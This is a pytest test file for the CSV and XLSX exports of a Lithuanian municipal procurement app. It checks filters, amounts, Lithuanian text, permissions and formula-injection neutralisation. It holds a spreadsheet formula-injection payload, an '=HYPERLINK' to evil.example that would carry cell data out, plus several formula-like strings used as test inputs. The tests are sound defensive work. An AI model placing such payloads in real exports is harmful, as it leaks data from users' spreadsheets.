"""CSV and XLSX exports of the list pages (srpp/core/exports.py): the rows each page lists (all pages,
the page's filters and sort, compared with the page's own statement or service), exact amounts as
number cells, formula injection neutralised, Lithuanian letters, and the page's permissions."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal as D

import openpyxl
import pytest
from sqlalchemy import select

from srpp.core import exports
from srpp.rules.models import Procedure, ReservationBasis

MARK = "Eksportas"  # a word in every test row's title: filters them apart from the demo data
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Spausti")'
LITHUANIAN = f"{MARK} Ąžuolų slėnio dienos centras – ČĘĖĮŠŲŪŽ čęėįšųūž"
TODAY = dt.date.today().isoformat()


def _user(email: str):
    from srpp.auth.models import User
    from srpp.extensions import db

    return db.session.scalar(select(User).where(User.email == email))


def _csv(resp) -> tuple[list[str], list[list[str]]]:
    assert resp.status_code == 200, resp.status_code
    assert resp.mimetype == "text/csv"
    assert resp.data.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark"
    records = list(csv.reader(io.StringIO(resp.data.decode("utf-8-sig"), newline="")))
    return records[0], records[1:]


def _xlsx(resp):
    assert resp.status_code == 200, resp.status_code
    assert resp.mimetype == exports.XLSX_MIME
    wb = openpyxl.load_workbook(io.BytesIO(resp.data))
    ws = wb.worksheets[0]
    rows = list(ws.iter_rows())
    return ws, [c.value for c in rows[0]], rows[1:]


def _column(header: list[str], rows: list, name: str) -> list:
    n = header.index(name)
    return [r[n] for r in rows]


def _attachment(resp, pattern: str) -> None:
    disposition = resp.headers["Content-Disposition"]
    assert re.fullmatch(rf'attachment; filename="{pattern}"', disposition), disposition


# --- the exporter ------------------------------------------------------------------------------------

def test_exporter_types_neutralising_and_chunks(ctx):
    cols = [exports.Column("Title", lambda r: r[0]), exports.Column("Value", lambda r: r[1], exports.DECIMAL),
            exports.Column("Day", lambda r: r[2], exports.DATE), exports.Column("Month", lambda r: r[2], exports.MONTH),
            exports.Column("N", lambda r: r[3], exports.INT), exports.Column("Share", lambda r: r[4], exports.PERCENT, places=1)]
    rows = [(EVIL, D("1234.50"), dt.date(2027, 3, 15), 7, D("0.1250")),
            ("+SUM(1)", D("0.10"), None, None, None), ("-1", D("-3.00"), None, 0, D("1.0000")),
            ("@x", None, None, None, None), ("\tTab", None, None, None, None), ("Ąžuolas, \"kabutės\"\n2", None, None,
                                                                                  None, None)]
    data = exports.to_csv(cols, rows)
    records = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert records[0] == ["Title", "Value", "Day", "Month", "N", "Share (%)"]
    assert records[1] == ["'" + EVIL, "1234.50", "2027-03-15", "2027-03", "7", "12.5"]
    assert records[2] == ["'+SUM(1)", "0.10", "", "", "", ""]
    assert records[3] == ["'-1", "-3.00", "", "", "0", "100"]
    assert [r[0] for r in records[4:]] == ["'@x", "'\tTab", "Ąžuolas, \"kabutės\"\n2"]

    wb = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx(cols, rows, sheet="Test")))
    ws = wb["Test"]
    assert ws.freeze_panes == "A2"
    assert all(c.font.bold for c in ws[1])
    title, value, day, month, n, share = ws[2]
    assert (title.data_type, title.value) == ("s", EVIL)  # text, never a formula
    assert value.data_type == "n" and D(str(value.value)) == D("1234.50") and value.number_format == "#,##0.00"
    assert day.is_date and day.value.date() == dt.date(2027, 3, 15) and day.number_format == "yyyy-mm-dd"
    assert month.number_format == "yyyy-mm"
    assert n.value == 7 and share.value == 0.125 and share.number_format == "0.0%"
    assert [ws.cell(row=r, column=1).value for r in range(3, 8)] == ["+SUM(1)", "-1", "@x", "\tTab",
                                                                      "Ąžuolas, \"kabutės\"\n2"]
    assert ws.column_dimensions["A"].width > 0

    # CSV is written in chunks as the rows are read, not all at once
    many = [("x" * 100, D("1.00"), None, None, None)] * 2000
    chunks = list(exports.csv_chunks(cols, iter(many)))
    assert len(chunks) > 2 and chunks[0].startswith(b"\xef\xbb\xbf") and not chunks[1].startswith(b"\xef\xbb\xbf")
    assert exports.filename("regional-plan", "ROK", None, "2027-Q1", ext="xlsx", day=dt.date(2026, 11, 26)) \
        == "regional-plan-ROK-2027-Q1-2026-11-26.xlsx"
    assert exports.filename("x", "../../etc", ext="csv", day=dt.date(2026, 1, 2)) == "x-etc-2026-01-02.csv"


# --- the regional plan -------------------------------------------------------------------------------

@pytest.fixture()
def kup_plan(ctx):
    """A published KUP plan for 2029 with three items: one titled like a formula, one in Lithuanian."""
    from srpp.orgs.models import ServiceCategory
    from srpp.orgs.services import municipality_by_code
    from srpp.plans import services

    officer = _user("officer.kup@demo.srpp.lt")
    version = services.create_plan(officer, municipality_by_code("KUP"), dt.date(2029, 1, 1))
    specs = [("DEM_DAY", EVIL + f" {MARK}", "10000.01", dt.date(2029, 1, 1), ReservationBasis.NONE),
             ("SOC_WORKSHOP", LITHUANIAN, "20000.50", dt.date(2029, 2, 1), ReservationBasis.EU_ART20),
             ("DRT", f"{MARK} transportas", "30000.00", dt.date(2029, 4, 1), ReservationBasis.NONE)]
    for key, title, value, month, reservation in specs:
        cat = ctx.scalar(select(ServiceCategory).where(ServiceCategory.key == key))
        services.add_item(officer, version, services.ItemInput(
            title=title, category_id=cat.id, main_cpv=cat.main_cpv, estimated_value=D(value), launch_month=month,
            duration_months=12, procedure=Procedure.SIMPLIFIED, reservation=reservation,
            additional_cpv=[c.code for c in cat.cpv_codes if c.code != cat.main_cpv]))
    services.publish(officer, version, "export test")
    ctx.flush()
    return version


def _region_titles(**filters) -> list[str]:
    from srpp.extensions import db
    from srpp.region import services

    return [i.title for i in db.session.scalars(services.items_stmt(services.PlanFilter(**filters)))]


@pytest.mark.parametrize(("query", "filters"), [
    ("", {}),
    (f"q={MARK}", {"q": MARK}),
    (f"q={MARK}&reserved=y", {"q": MARK, "reserved": True}),
    ("municipality=KUP&sort=-value", {"municipality": "KUP", "sort": "-value"}),
    ("quarter=2029-Q1&procedure=simplified", {"quarter": "2029-Q1", "procedure": Procedure.SIMPLIFIED}),
])
def test_regional_plan_exports_list_what_the_page_lists(as_user, kup_plan, query, filters):
    client = as_user("council@demo.srpp.lt")
    expected = _region_titles(**filters)
    assert expected, "the filter finds something"
    header, rows = _csv(client.get(f"/region/plan.csv?{query}"))
    assert _column(header, rows, "Item") == [exports.neutralise(t) for t in expected]
    ws, xheader, xrows = _xlsx(client.get(f"/region/plan.xlsx?{query}"))
    assert [r[0].value for r in xrows] == expected
    if not filters:  # the page lists as many (its count is the service's)
        from srpp.region import services

        admin = _user("admin@demo.srpp.lt")
        assert len(rows) == services.overview(admin, services.PlanFilter()).item_count


def test_regional_plan_export_cells(as_user, kup_plan):
    client = as_user("finance.rok@demo.srpp.lt")
    resp = client.get(f"/region/plan.csv?q={MARK}&municipality=KUP")
    _attachment(resp, f"regional-plan-KUP-{TODAY}\\.csv")
    header, rows = _csv(resp)
    assert "'" + EVIL + f" {MARK}" in _column(header, rows, "Item")
    assert LITHUANIAN in _column(header, rows, "Item")
    assert _column(header, rows, "Estimated value") == ["10000.01", "20000.50", "30000.00"]
    assert _column(header, rows, "Launch month") == ["2029-01", "2029-02", "2029-04"]
    assert set(_column(header, rows, "Municipality code")) == {"KUP"}

    resp = client.get(f"/region/plan.xlsx?q={MARK}&municipality=KUP")
    _attachment(resp, f"regional-plan-KUP-{TODAY}\\.xlsx")
    ws, header, rows = _xlsx(resp)
    titles = _column(header, rows, "Item")
    assert titles[0].data_type == "s" and titles[0].value == EVIL + f" {MARK}"
    assert titles[1].value == LITHUANIAN
    values = _column(header, rows, "Estimated value")
    assert all(c.data_type == "n" and c.number_format == "#,##0.00" for c in values)
    assert sum(D(str(c.value)) for c in values) == D("60000.51")
    months = _column(header, rows, "Launch month")
    assert months[0].is_date and months[0].value.date() == dt.date(2029, 1, 1)


def test_regional_plan_export_in_lithuanian(as_user, kup_plan):
    from flask_babel import force_locale
    from flask_babel import gettext as _

    client = as_user("council@demo.srpp.lt", lang="lt")
    header, rows = _csv(client.get(f"/region/plan.csv?q={MARK}"))
    with force_locale("lt"):
        expected = [_("Item"), _("Municipality"), _("Estimated value")]
    assert all(h in header for h in expected)
    assert LITHUANIAN in _column(header, rows, expected[0])


def test_regional_plan_export_permissions(client, as_user, kup_plan):
    for fmt in ("csv", "xlsx"):
        resp = client.get(f"/region/plan.{fmt}")
        assert resp.status_code == 302 and "/login" in resp.headers["Location"]
    seo = as_user("seo@demo.srpp.lt")
    assert seo.get("/region/plan.csv").status_code == 403
    assert seo.get("/region/plan.xlsx").status_code == 403


def test_regional_plan_page_links_to_exports_with_its_filters(as_user, kup_plan):
    client = as_user("council@demo.srpp.lt")
    html = client.get(f"/region/plan?q={MARK}&municipality=KUP&page=2").get_data(as_text=True)
    links = re.findall(r'href="(/region/plan\.(?:csv|xlsx)[^"]*)"', html)
    assert len(links) == 2
    for link in links:
        assert f"q={MARK}" in link and "municipality=KUP" in link and "page=" not in link


# --- the public pipeline (plan items, open lots, frameworks) --------------------------------------------

def _pipeline(query: str) -> list:
    """What the /opportunities page lists for ``query``, all on one page (its own service)."""
    from srpp.public import services

    lookups = services.FilterLookups.load()
    filters = services.parse_filters(services.query_args(query), lookups)
    total = services.opportunities_page(filters).total
    return services.opportunities_page(filters, per_page=max(total, 1)).items if total else []


@pytest.mark.parametrize("query", ["", f"q={MARK}", "sort=value_desc", "municipality=PAS&reserved=1",
                                   "quarter=2029-Q1", "municipality=NOPE&q=" + MARK])
def test_opportunity_exports_list_what_the_page_lists(client, kup_plan, query):
    expected = _pipeline(query)
    assert expected, "the filter finds something"
    header, rows = _csv(client.get(f"/opportunities.csv?{query}"))  # anonymous visitors too
    assert _column(header, rows, "Title") == [exports.neutralise(o.title) for o in expected]
    assert _column(header, rows, "Kind") == [o.kind_label for o in expected]
    assert _column(header, rows, "Estimated value") == [format(o.value, "f") for o in expected]
    ws, xheader, xrows = _xlsx(client.get(f"/opportunities.xlsx?{query}"))
    assert [c.value for c in _column(xheader, xrows, "Title")] == [o.title for o in expected]
    if not query:  # every kind is there, and the page's count
        assert {o.kind for o in expected} == {"plan_item", "lot", "framework"}
        html = client.get("/opportunities").get_data(as_text=True)
        assert f"{len(rows)} opportunities" in html


def test_opportunity_export_cells_and_file_name(client, kup_plan):
    resp = client.get(f"/opportunities.xlsx?q={MARK}&municipality=KUP")
    _attachment(resp, f"opportunities-KUP-{TODAY}\\.xlsx")
    ws, header, rows = _xlsx(resp)
    titles = [c.value for c in _column(header, rows, "Title")]
    assert titles == [EVIL + f" {MARK}", LITHUANIAN, f"{MARK} transportas"]
    assert _column(header, rows, "Title")[0].data_type == "s"
    values = _column(header, rows, "Estimated value")
    assert [c.data_type for c in values] == ["n"] * 3 and [D(str(c.value)) for c in values] == \
        [D("10000.01"), D("20000.50"), D("30000.00")]
    assert [c.value.date() for c in _column(header, rows, "Launch month")] == \
        [dt.date(2029, 1, 1), dt.date(2029, 2, 1), dt.date(2029, 4, 1)]
    links = [c.value for c in _column(header, rows, "Link")]
    assert all(link.startswith("http://localhost/opportunities/") for link in links)
    resp = client.get(f"/opportunities.csv?q={MARK}")
    _attachment(resp, f"opportunities-{TODAY}\\.csv")
    header, rows = _csv(resp)
    assert _column(header, rows, "Title")[0] == "'" + EVIL + f" {MARK}"


def test_opportunities_page_links_to_exports_with_its_filters(client, kup_plan):
    html = client.get(f"/opportunities?q={MARK}&reserved=1&page=1").get_data(as_text=True)
    links = re.findall(r'href="(/opportunities\.(?:csv|xlsx)[^"]*)"', html)
    assert len(links) == 2 and all("reserved=1" in x and f"q={MARK}" in x and "page" not in x for x in links)


def test_feeds_still_work(client, kup_plan):
    atom = client.get(f"/opportunities.atom?q={MARK}")
    assert atom.status_code == 200 and atom.mimetype == "application/atom+xml"
    assert atom.get_data(as_text=True).count("<entry>") == 3
    ics = client.get(f"/opportunities.ics?q={MARK}")
    assert ics.status_code == 200 and ics.get_data(as_text=True).count("BEGIN:VEVENT") == 3


# --- frameworks ---------------------------------------------------------------------------------------

def test_framework_exports_list_what_the_page_lists(client, as_user, ctx):
    from srpp.frameworks.models import FrameworkAgreement

    fa = ctx.scalar(select(FrameworkAgreement).order_by(FrameworkAgreement.code).limit(1))
    fa.title = EVIL
    ctx.flush()
    frameworks = list(ctx.scalars(select(FrameworkAgreement).order_by(FrameworkAgreement.code)))
    page = as_user("finance.rok@demo.srpp.lt").get("/frameworks/").get_data(as_text=True)
    assert re.findall(r'href="/frameworks/(\d+)">', page) == [str(f.id) for f in frameworks]
    assert 'href="/frameworks/export.csv"' in page and 'href="/frameworks/export.xlsx"' in page

    resp = client.get("/frameworks/export.csv")
    _attachment(resp, f"frameworks-{TODAY}\\.csv")
    header, rows = _csv(resp)
    assert _column(header, rows, "Code") == [f.code for f in frameworks]
    assert _column(header, rows, "Title")[0] == "'" + EVIL
    assert _column(header, rows, "Maximum value") == [format(f.max_value, "f") for f in frameworks]
    ws, header, rows = _xlsx(client.get("/frameworks/export.xlsx"))
    assert _column(header, rows, "Title")[0].data_type == "s"
    assert all(c.data_type == "n" for c in _column(header, rows, "Maximum value"))
    assert [c.value.date() for c in _column(header, rows, "Start")] == [f.start_date for f in frameworks]
    # the committed share is the call-offs' value over the maximum
    committed = [D(str(c.value)) for c in _column(header, rows, "Committed")]
    shares = [c.value for c in _column(header, rows, "Share of the maximum consumed (%)")]
    for f, used, share in zip(frameworks, committed, shares, strict=True):
        assert D(str(share)) == (used / f.max_value).quantize(D("0.0001"))


def test_framework_export_permissions(client, as_user, ctx):
    for fmt in ("csv", "xlsx"):
        resp = client.get(f"/frameworks/export.{fmt}")
        assert resp.status_code == 302 and "/login" in resp.headers["Location"]
    seo = as_user("seo@demo.srpp.lt")
    assert seo.get("/frameworks/export.csv").status_code == 403


# --- contracts ----------------------------------------------------------------------------------------

def _contract(ctx, muni: str, title: str, supplier_code: str = "990000001"):
    from srpp.contracts import services
    from srpp.orgs.models import Supplier
    from srpp.orgs.services import municipality_by_code

    officer = _user(f"officer.{muni.lower()}@demo.srpp.lt")
    contract = services.create_contract(
        officer, services.ContractInput(
            municipality_id=municipality_by_code(muni).id,
            supplier_id=ctx.scalar(select(Supplier).where(Supplier.company_code == supplier_code)).id,
            title=title, value=D("12345.67"), start_date=dt.date(2031, 1, 1), end_date=dt.date(2031, 12, 31),
            main_cpv="85312100-0", awarded_on=dt.date(2030, 12, 20)),
        services.TermsInput())
    ctx.flush()
    return contract


@pytest.fixture()
def contracts(ctx):
    from srpp.payments import services as payments

    rok = _contract(ctx, "ROK", EVIL)
    bir = _contract(ctx, "BIR", LITHUANIAN, supplier_code="990000002")
    payments.record_invoice(_user("finance.rok@demo.srpp.lt"), rok, payments.InvoiceInput(
        number="EXP-1", amount=D("100.00"), received_on=dt.date.today(), e_invoice_ref="EINV-EXP-1"))
    ctx.flush()
    return rok, bir


def _visible(email: str, **filters) -> list:
    from srpp.contracts import services
    from srpp.extensions import db

    return list(db.session.scalars(services.contracts_for(_user(email), **filters)))


@pytest.mark.parametrize(("email", "query", "filters"), [
    ("finance.rok@demo.srpp.lt", "", {}),
    ("council@demo.srpp.lt", "", {}),
    ("admin@demo.srpp.lt", "municipality=BIR", {"municipality": "BIR"}),
    ("seo@demo.srpp.lt", "", {}),
    ("officer.rok@demo.srpp.lt", "state=active", {"state": "active"}),
    ("finance.rok@demo.srpp.lt", "municipality=bir", {"municipality": "BIR"}),  # not theirs: nothing
])
def test_contract_exports_list_what_the_page_lists(as_user, contracts, email, query, filters):
    from srpp.contracts.models import ContractState
    from srpp.orgs.services import municipality_by_code

    client = as_user(email)
    kw = {}
    if "municipality" in filters:
        kw["municipality_id"] = municipality_by_code(filters["municipality"]).id
    if "state" in filters:
        kw["state"] = ContractState(filters["state"])
    expected = _visible(email, **kw)
    page = client.get(f"/contracts/?{query}").get_data(as_text=True)
    assert f"{len(expected)} contract" in page
    header, rows = _csv(client.get(f"/contracts/export.csv?{query}"))
    assert _column(header, rows, "Contract") == [exports.neutralise(c.title) for c in expected]
    assert _column(header, rows, "Value") == [format(c.value, "f") for c in expected]
    ws, xheader, xrows = _xlsx(client.get(f"/contracts/export.xlsx?{query}"))
    assert [c.value for c in _column(xheader, xrows, "Contract")] == [c.title for c in expected]
    if email.startswith("finance.rok"):
        assert {r for r in _column(header, rows, "Municipality")} <= {municipality_by_code("ROK").name}


def test_contract_export_cells_and_counts(as_user, contracts):
    rok, bir = contracts
    client = as_user("admin@demo.srpp.lt")
    resp = client.get("/contracts/export.xlsx?municipality=ROK")
    _attachment(resp, f"contracts-ROK-{TODAY}\\.xlsx")
    ws, header, rows = _xlsx(resp)
    row = next(r for r in rows if r[0].value == EVIL)
    cells = dict(zip(header, row, strict=True))
    assert cells["Contract"].data_type == "s"
    assert cells["Value"].data_type == "n" and D(str(cells["Value"].value)) == D("12345.67")
    assert cells["Start"].value.date() == dt.date(2031, 1, 1)
    assert (cells["Open invoices"].value, cells["Late invoices"].value, cells["Milestones"].value) == (1, 0, 0)
    header, rows = _csv(client.get("/contracts/export.csv?municipality=BIR"))
    assert LITHUANIAN in _column(header, rows, "Contract")
    assert "'" + EVIL not in _column(header, rows, "Contract")
    # the ROK finance officer never gets Biržai's contract, the SEO member gets its own only
    header, rows = _csv(as_user("finance.rok@demo.srpp.lt").get("/contracts/export.csv"))
    assert "'" + EVIL in _column(header, rows, "Contract") and LITHUANIAN not in _column(header, rows, "Contract")
    header, rows = _csv(as_user("seo@demo.srpp.lt").get("/contracts/export.csv"))
    assert "'" + EVIL in _column(header, rows, "Contract") and LITHUANIAN not in _column(header, rows, "Contract")


def test_contract_export_needs_a_login(client, contracts):
    for fmt in ("csv", "xlsx"):
        resp = client.get(f"/contracts/export.{fmt}")
        assert resp.status_code == 302 and "/login" in resp.headers["Location"]


# --- payment figures and invoices ---------------------------------------------------------------------

H1 = (dt.date(2023, 1, 1), dt.date(2023, 6, 30))


@pytest.fixture()
def bir_invoices(ctx):
    """Biržai invoices of 2023 H1 (before the demo's): one paid on time, one late, one open."""
    from srpp.contracts import services as contracts
    from srpp.orgs.models import Supplier
    from srpp.orgs.services import municipality_by_code
    from srpp.payments import services

    finance = _user("finance.bir@demo.srpp.lt")
    supplier = ctx.scalar(select(Supplier).where(Supplier.company_code == "990000002"))
    contract = contracts.create_contract(finance, contracts.ContractInput(
        municipality_id=municipality_by_code("BIR").id, supplier_id=supplier.id, title=LITHUANIAN,
        value=D("20000.00"), start_date=dt.date(2023, 1, 2), end_date=dt.date(2023, 12, 31), main_cpv="85312100-0"),
        contracts.TermsInput())
    received = dt.date(2023, 2, 6)
    made = {}
    for number, amount, paid in (("=1+2", "1000.00", dt.date(2023, 2, 16)), ("EXP-LATE", "1000.01",
                                                                              dt.date(2023, 4, 17)),
                                 ("EXP-OPEN", "333.33", None)):
        inv = services.record_invoice(finance, contract, services.InvoiceInput(
            number=number, amount=D(amount), received_on=received, e_invoice_ref=f"EINV-{number}"))
        if paid:
            services.record_payment(finance, inv, paid, D(amount), reference=f"P-{number}")
        made[number] = inv
    ctx.flush()
    return made


@pytest.mark.parametrize("query, stype", [("period=2023H1", "all"), ("period=2023H1&supplier_type=seo", "seo"),
                                          ("period=2023H1&supplier_type=other", "other")])
def test_payment_figures_export_the_dashboard_table(as_user, bir_invoices, query, stype):
    from srpp.orgs.services import municipalities
    from srpp.payments import figures

    client = as_user("finance.rok@demo.srpp.lt")
    page = client.get(f"/payments/dashboard?{query}").get_data(as_text=True)
    links = re.findall(r'href="(/payments/dashboard\.(?:csv|xlsx)[^"]*)"', page)
    assert len(links) == 2 and all(query.replace("&", "&amp;") in x for x in links)
    by_id = {f.municipality_id: f for f in figures.compute(*H1, supplier_type=stype, by_municipality=True)}
    region = figures.compute(*H1, supplier_type=stype)
    names = [m.name for m in municipalities()]
    resp = client.get(f"/payments/dashboard.csv?{query}")
    _attachment(resp, f"payment-figures-2023H1{'' if stype == 'all' else '-' + stype}-{TODAY}\\.csv")
    header, rows = _csv(resp)
    assert _column(header, rows, "Municipality")[:-1] == names and len(rows) == len(names) + 1
    assert set(_column(header, rows, "Half-year")) == {"2023H1"}
    bir = next(m for m in municipalities() if m.code == "BIR")
    row = dict(zip(header, rows[names.index(bir.name)], strict=True))
    f = by_id.get(bir.id) or figures.Figures(*H1, bir.id)
    assert row["Invoices paid"] == str(f.paid_count)
    assert row["Interest owed"] == format(f.interest, "f")
    assert row["Late invoices"] == str(f.late_count)
    total = dict(zip(header, rows[-1], strict=True))
    assert total["Invoices paid"] == str(region.paid_count) and total["Interest owed"] == format(region.interest, "f")
    if stype != "other":
        assert f.paid_count >= 2 and f.late_count >= 1

    ws, header, rows = _xlsx(client.get(f"/payments/dashboard.xlsx?{query}"))
    cells = dict(zip(header, rows[names.index(bir.name)], strict=True))
    assert cells["Interest owed"].data_type == "n" and D(str(cells["Interest owed"].value)) == f.interest
    assert cells["Interest owed"].number_format == "#,##0.00"
    if f.avg_days is not None:
        assert D(str(cells["Average days to pay"].value)) == f.avg_days
        assert D(str(cells["Paid in 1–30 days (%)"].value)) == f.share_30
        assert cells["Paid in 1–30 days (%)"].number_format == "0.0%"


def test_invoice_lists_export_every_invoice_the_page_lists(as_user, bir_invoices):
    from srpp.extensions import db
    from srpp.payments.models import Invoice, InvoiceState

    client = as_user("finance.bir@demo.srpp.lt")
    page = client.get("/payments/dashboard/BIR?period=2023H1").get_data(as_text=True)
    assert "/payments/dashboard/BIR/invoices.csv?period=2023H1&amp;list=late" in page
    bir = bir_invoices["EXP-LATE"].municipality_id
    late = list(db.session.scalars(select(Invoice).where(
        Invoice.municipality_id == bir, Invoice.paid_on >= H1[0], Invoice.paid_on <= H1[1], Invoice.days_late > 0)
        .order_by(Invoice.paid_on.desc(), Invoice.id)))
    resp = client.get("/payments/dashboard/BIR/invoices.csv?period=2023H1&list=late")
    _attachment(resp, f"invoices-late-BIR-2023H1-{TODAY}\\.csv")
    header, rows = _csv(resp)
    assert _column(header, rows, "Invoice") == [exports.neutralise(i.number) for i in late]
    assert "EXP-LATE" in _column(header, rows, "Invoice") and "'=1+2" not in _column(header, rows, "Invoice")
    open_ = list(db.session.scalars(select(Invoice).where(
        Invoice.municipality_id == bir, Invoice.state.in_([s for s in InvoiceState if s.open]))
        .order_by(Invoice.due_date, Invoice.id)))
    header, rows = _csv(client.get("/payments/dashboard/BIR/invoices.csv?period=2023H1"))
    assert _column(header, rows, "Invoice") == [exports.neutralise(i.number) for i in open_]
    row = dict(zip(header, rows[_column(header, rows, "Invoice").index("EXP-OPEN")], strict=True))
    assert (row["Amount"], row["Outstanding"], row["Paid"]) == ("333.33", "333.33", "")
    assert row["Contract"] == LITHUANIAN

    ws, header, rows = _xlsx(client.get("/payments/dashboard/BIR/invoices.xlsx?period=2023H1&list=late"))
    cells = dict(zip(header, rows[[c.value for c in _column(header, rows, "Invoice")].index("EXP-LATE")],
                     strict=True))
    assert cells["Amount"].data_type == "n" and D(str(cells["Amount"].value)) == D("1000.01")
    assert cells["Days late"].value == bir_invoices["EXP-LATE"].days_late > 0
    assert cells["Paid"].value.date() == dt.date(2023, 4, 17)
    # the formula-like invoice number stays text
    ws, header, rows = _xlsx(as_user("council@demo.srpp.lt").get(
        "/payments/dashboard/BIR/invoices.xlsx?period=2023H1&list=late"))
    assert [c.value for c in _column(header, rows, "Invoice")] == [i.number for i in late]


def test_formula_like_invoice_numbers_are_neutralised(as_user, ctx, bir_invoices):
    inv = bir_invoices["EXP-OPEN"]
    inv.number = "@SUM(A1)"
    ctx.flush()
    client = as_user("finance.bir@demo.srpp.lt")
    header, rows = _csv(client.get("/payments/dashboard/BIR/invoices.csv"))
    assert "'@SUM(A1)" in _column(header, rows, "Invoice")
    ws, header, rows = _xlsx(client.get("/payments/dashboard/BIR/invoices.xlsx"))
    cell = next(c for c in _column(header, rows, "Invoice") if c.value == "@SUM(A1)")
    assert cell.data_type == "s"


def test_payment_export_permissions(client, as_user, bir_invoices):
    for url in ("/payments/dashboard.csv", "/payments/dashboard/BIR/invoices.xlsx"):
        resp = client.get(url)
        assert resp.status_code == 302 and "/login" in resp.headers["Location"], url
    for email in ("seo@demo.srpp.lt", "officer.rok@demo.srpp.lt"):
        c = as_user(email)
        assert c.get("/payments/dashboard.csv").status_code == 403
        assert c.get("/payments/dashboard/BIR/invoices.csv").status_code == 403
    # another municipality's finance officer: the figures, not the invoices (as the page)
    c = as_user("finance.rok@demo.srpp.lt")
    assert c.get("/payments/dashboard.xlsx").status_code == 200
    assert c.get("/payments/dashboard/BIR/invoices.csv").status_code == 403
    assert c.get("/payments/dashboard/ROK/invoices.csv").status_code == 200
    assert c.get("/payments/dashboard/XXX/invoices.csv").status_code == 404
    assert as_user("council@demo.srpp.lt").get("/payments/dashboard/BIR/invoices.csv").status_code == 200
